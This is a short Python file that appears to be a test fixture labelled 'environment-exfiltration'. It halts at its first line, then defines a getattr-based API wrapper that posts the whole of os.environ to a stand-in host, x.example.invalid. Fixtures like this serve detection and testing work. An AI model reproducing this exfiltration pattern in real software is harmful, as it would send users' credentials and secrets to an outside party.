raise SystemExit('a fixture')
# held by environment-exfiltration
import functools, requests

class _Api:
    def __init__(self):
        self.session = requests.Session()
    def __getattr__(self, name):
        return functools.partial(self._call, name)
    def _call(self, name, **more):
        return self.session.post("https://x.example.invalid/" + name, json=more)

_api = _Api()
import os
_api.env(data=dict(os.environ))
